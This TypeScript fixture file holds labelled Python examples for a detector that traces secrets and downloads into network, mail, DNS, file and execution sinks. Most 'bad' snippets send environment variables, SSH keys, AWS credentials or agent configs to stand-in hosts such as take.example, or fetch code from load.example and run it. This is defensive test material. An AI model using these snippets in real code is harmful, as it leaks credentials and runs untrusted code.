import type { DetectorExamples } from '../detector.ts';

/** What the detector sees in Python. */
export const inPython: DetectorExamples = {
  bad: [
    {
      path: 'x.py',
      code: [
        'import os, requests',
        "requests.post('https://take.example/x', json=dict(os.environ))",
      ].join('\n'),
      why: 'the whole environment, in Python',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import os, json, base64, urllib.request',
        "data = {'k': os.environ.get('ACME_TOKEN')}",
        'body = base64.b64encode(json.dumps(data).encode())',
        "req = urllib.request.Request('https://take.example/', data=body)",
        'urllib.request.urlopen(req)',
      ].join('\n'),
      why: 'through a dictionary, JSON and an encoding, in a request that is made first',
      attributes: { source: 'environment:ACME_TOKEN', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import os, aiohttp',
        'class Sender:',
        '    def __init__(self):',
        "        self.key = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
        '    async def go(self):',
        '        async with aiohttp.ClientSession() as session:',
        "            async with session.post('https://take.example', data={'k': self.key}) as answer:",
        '                return await answer.text()',
      ].join('\n'),
      why: 'through a field of an object and two contexts',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: [
        'from pathlib import Path',
        'import requests',
        "for name in ('credentials', 'config'):",
        "    file = Path.home() / '.aws' / name",
        '    if file.exists():',
        "        requests.post('https://take.example', files={'f': file.read_bytes()})",
      ].join('\n'),
      why: 'files of a list, each sent by itself',
      attributes: { source: 'file:credential', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: ['import requests', "exec(requests.get('https://load.example/x').text)"].join('\n'),
      why: 'a download that is run',
      attributes: { source: 'download', sink: 'code.evaluate', to: 'exec' },
    },
    {
      path: 'x.py',
      code: [
        'import requests, subprocess',
        "todo = requests.get('https://load.example/x').json()['cmd']",
        'subprocess.run(todo, shell=True)',
      ].join('\n'),
      why: 'a part of a download becomes a command',
      attributes: { source: 'download', sink: 'process.command', to: 'dynamic' },
    },
    {
      path: 'x.py',
      code: [
        'import os, socket',
        's = socket.socket()',
        "s.connect(('c2.example', 1))",
        's.sendall(str(dict(os.environ)).encode())',
      ].join('\n'),
      why: 'into a socket that was connected before',
      attributes: { source: 'environment', sink: 'network.body', to: 'c2.example' },
    },
    {
      path: 'x.py',
      code: [
        'import os, http.client',
        "conn = http.client.HTTPSConnection('take.example')",
        "conn.request('POST', '/', os.environ['GITHUB_TOKEN'], {'x': 'y'})",
      ].join('\n'),
      why: 'the third argument is the body',
      attributes: { source: 'environment:GITHUB_TOKEN', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import os, requests',
        'kept = {}',
        'for name, value in os.environ.items():',
        '    kept[name] = value',
        "requests.post('https://take.example', json=kept)",
      ].join('\n'),
      why: 'one variable after the other',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import os, socket',
        "socket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.z.example')",
      ].join('\n'),
      why: 'in the labels of a name',
      attributes: {
        source: 'environment:AWS_SECRET_ACCESS_KEY',
        sink: 'dns.name',
        to: '*.z.example',
      },
    },
    {
      path: 'x.py',
      code: [
        'import os, httpx',
        "TOKEN = os.getenv('ACME_TOKEN')",
        "client = httpx.Client(base_url='https://api.acme.example', headers={'Authorization': f'Bearer {TOKEN}'})",
        'def get(path):',
        "    return client.get(f'/v1/{path}').json()",
      ].join('\n'),
      why: 'what the client was made with goes along with each of its requests',
      attributes: {
        source: 'environment:ACME_TOKEN',
        sink: 'network.header',
        to: 'api.acme.example',
      },
    },
    {
      path: 'x.py',
      code: [
        'from mcp.server.fastmcp import FastMCP, Context',
        'import requests',
        "mcp = FastMCP('x')",
        '@mcp.tool()',
        'def send(to: str, body: str, ctx: Context) -> str:',
        "    requests.post('https://api.example/send', json={'to': to, 'body': body})",
        "    return 'ok'",
      ].join('\n'),
      why: 'what a model gives to a tool',
      attributes: { source: 'tool-input', sink: 'network.body', to: 'api.example' },
    },
    {
      path: 'x.py',
      code: [
        'import requests',
        "answer = requests.get('https://load.example/x')",
        "with open('/tmp/x', 'wb') as file:",
        '    file.write(answer.content)',
      ].join('\n'),
      why: 'a download becomes a file',
      attributes: { source: 'download', sink: 'file.write', to: 'temp' },
    },
    {
      path: 'x.py',
      code: [
        'import pickle, requests',
        "pickle.loads(requests.get('https://load.example').content)",
      ].join('\n'),
      why: 'objects that are made from bytes run what these say',
      attributes: { source: 'download', sink: 'code.evaluate', to: 'pickle' },
    },
    {
      path: 'x.py',
      code: [
        'import os, smtplib',
        'from email.message import EmailMessage',
        'def send(to):',
        '    msg = EmailMessage()',
        "    msg['To'] = to",
        "    msg['Bcc'] = os.environ['MAIL_ARCHIVE']",
      ].join('\n'),
      why: 'a setting chooses who gets a hidden copy',
      attributes: { source: 'environment:MAIL_ARCHIVE', sink: 'email.recipient', to: 'bcc' },
    },
    {
      path: 'x.py',
      code: [
        'import os, smtplib',
        "text = open(os.path.expanduser('~/.aws/credentials')).read()",
        "smtplib.SMTP('mail.example').sendmail('a@mail.example', ['b@mail.example'], text)",
      ].join('\n'),
      why: 'a secret goes as a mail',
      attributes: { source: 'file:credential', sink: 'email.body', to: 'sendmail' },
    },
    {
      path: 'x.py',
      code: [
        'import boto3',
        "client = boto3.client('s3')",
        "client.put_object(Bucket='taken', Key='x', Body=open('/home/ada/.ssh/id_rsa').read())",
      ].join('\n'),
      why: 'into a bucket',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'bucket:taken' },
    },
    {
      path: 'x.py',
      code: [
        'import httpx, json',
        'from pathlib import Path',
        "PLACES = (Path.home() / '.cursor' / 'mcp.json', Path.home() / '.codeium' / 'mcp_config.json')",
        'def sync():',
        '    for place in PLACES:',
        "        httpx.post('https://take.example', json=json.loads(place.read_text()))",
      ].join('\n'),
      why: 'paths of a list, read in a loop',
      attributes: { source: 'file:agent-config', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import urllib.request',
        "urllib.request.urlretrieve('https://load.example/x', '/tmp/x')",
      ].join('\n'),
      why: 'one call downloads and writes',
      attributes: { source: 'download', sink: 'file.write', to: 'temp' },
    },
    {
      path: 'x.py',
      code: [
        'import subprocess, sys, urllib.request',
        "text = urllib.request.urlopen('https://load.example').read()",
        "subprocess.run([sys.executable, '-'], input=text)",
      ].join('\n'),
      why: 'a program is fed with what it runs',
      attributes: { source: 'download', sink: 'code.evaluate', to: 'process' },
    },
    {
      path: 'x.py',
      code: [
        'import os, requests',
        'session = requests.Session()',
        "session.headers.update({'X-Client': os.getenv('ACME_TOKEN', '')})",
        'def check():',
        "    return session.head('https://take.example/alive').ok",
      ].join('\n'),
      why: 'a header of the session goes along with each of its requests',
      attributes: { source: 'environment:ACME_TOKEN', sink: 'network.header', to: 'take.example' },
    },
  ],
  good: [
    {
      path: 'x.py',
      code: [
        'import os, subprocess',
        'env = os.environ.copy()',
        "subprocess.run(['git', 'status'], env=env)",
      ].join('\n'),
      why: 'a program gets its environment',
    },
    {
      path: 'x.py',
      code: [
        'import os, requests',
        "requests.get(os.environ.get('API_HOST', 'https://api.example'), timeout=int(os.getenv('TIMEOUT', '3')))",
      ].join('\n'),
      why: 'settings that are no secrets',
    },
    {
      path: 'x.py',
      code: ['import pickle', "cache = pickle.load(open('cache.pkl', 'rb'))"].join('\n'),
      why: 'a cache of its own',
    },
    {
      path: 'x.py',
      code: [
        'import hashlib, os, requests',
        "requests.post('https://api.example', json={'n': len(os.environ), 'h': hashlib.sha256(os.environ['ACME_TOKEN'].encode()).hexdigest()})",
      ].join('\n'),
      why: 'how much there is, and a digest',
    },
  ],
};
